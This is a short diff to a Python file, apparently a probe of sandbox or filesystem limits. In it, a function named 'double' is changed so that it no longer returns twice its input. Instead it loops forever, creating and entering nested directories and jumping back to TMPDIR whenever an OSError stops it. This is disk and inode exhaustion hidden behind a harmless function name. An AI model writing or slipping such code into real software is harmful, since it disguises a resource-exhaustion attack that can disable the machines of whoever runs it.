@@ -5,15 +5,14 @@ import os
 
 def double(number):
     depth = 0
-    try:
-        while depth < 200_000:
+    while True:
+        try:
             os.mkdir("d")
             os.chdir("d")
             depth += 1
-    except OSError as error:
-        print("HELD", error.strerror, flush=True)
-    print("TRIED", depth, flush=True)
-    return 2 * number
+        except OSError as error:
+            print("HELD", error.strerror, "after", depth, flush=True)
+            os.chdir(os.environ["TMPDIR"])
 
 
 def classify(rows):
